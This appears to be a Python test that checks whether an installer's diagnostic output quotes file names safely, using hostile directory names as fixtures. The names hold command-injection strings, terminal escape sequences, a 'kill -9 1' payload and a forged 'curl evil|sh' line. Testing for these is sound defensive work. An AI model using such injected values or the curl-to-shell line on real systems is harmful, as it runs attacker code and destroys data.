"""What is printed to be pasted is quoted, and control characters in names reach no terminal."""

import os
import subprocess
from pathlib import Path

import wait
from check import check, equal
from gateway import fresh_account
from installer import hermes_install
from mallory import STAND_IN, mallory

SECONDS = 60

NAMES = ["x /etc/victim #", "x;touch /root/pasted;", "x\nfix     curl evil|sh", "x\x1b]0;title\x07\x1b[31m", "x$(touch /root/pasted)'`id`", "x\u009b31m\u202e", "x\x1b'`kill -9 1`"]


def run() -> None:
    fresh_account()
    her = mallory()
    victim = Path("/etc/victim")
    victim.write_text("")
    program = her.write("bin/hermes", STAND_IN)
    started = []
    for name in NAMES:
        home = her.home / name
        home.mkdir(parents=True)
        os.chown(home, her.uid, her.gid)
        for above in home.relative_to(her.home).parents:
            os.chown(her.home / above, her.uid, her.gid)
        (home / "config.yaml").write_text("")
        variables = {"HERMES_HOME": str(home), "HOME": str(her.home)}
        started.append(her.start(str(program), "gateway", "run", env=variables))
        wait.until("it to run", (home / "gateway_state.json").exists)
        (home / "gateway.lock").chmod(0o600)
        (home / "state.db").write_text("of root")
        (home / "auth.json").write_text("{}")
        (home / "auth.json").chmod(0o644)
    her.home.chmod(0o755)
    for verb in (["doctor"], ["status"], ["plan", "--profile", "default", "--run-as", "mallory"], ["doctor", "--json"]):
        done = hermes_install(*verb)
        raw = [c for c in done.out + done.err if (ord(c) < 32 and c not in "\n\t") or 127 <= ord(c) < 160 or c == "\u202e"]
        equal(f"{' '.join(verb)}: control characters", raw, [])
        forged = [line for line in done.out.splitlines() if line.strip().startswith(("curl", "fix     curl", "kill -9 1"))]
        equal(f"{' '.join(verb)}: forged lines", forged, [])
    # Every way out, pasted.
    found = hermes_install("doctor")
    # A command has a line of its own, below `fix` or `hint`.
    ways = [line.strip() for line in found.out.splitlines() if line.startswith(" " * 8) and line[8:9].strip()]
    check("there are ways out", ways, found.out)
    for way in ways:
        if way.split()[0] in ("chown", "chmod", "rm"):
            subprocess.run(["sh", "-c", way], cwd="/")
    check("the victim's file is there", victim.exists())
    check("nothing else was run", not Path("/root/pasted").exists())
    for process in started:
        process.kill()
